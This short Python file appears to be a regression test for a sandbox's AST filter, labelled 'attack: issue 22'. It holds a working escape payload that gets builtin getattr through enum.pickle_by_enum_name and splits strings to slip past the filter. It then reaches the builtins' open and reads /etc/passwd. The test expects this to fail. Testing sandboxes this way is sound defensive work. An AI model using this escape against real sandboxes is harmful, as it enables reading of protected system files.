# attack: issue 22 (AST filter: banned:pickle_by_enum_name): enum.pickle_by_enum_name returns the builtin getattr as data; with it, a function's globals and the builtins' open
# expect: error runtime_error:FileNotFoundError
# calls: ["0"]
# ruff: noqa
import enum
class E(enum.Enum):
    A = 1
def f(x):
    g = enum.pickle_by_enum_name(E.A, 2)[0]
    b = g(f, '__glo' + 'bals__')['__built' + 'ins__']
    return g(b, 'op' + 'en')('/etc/passwd').read()[:10]
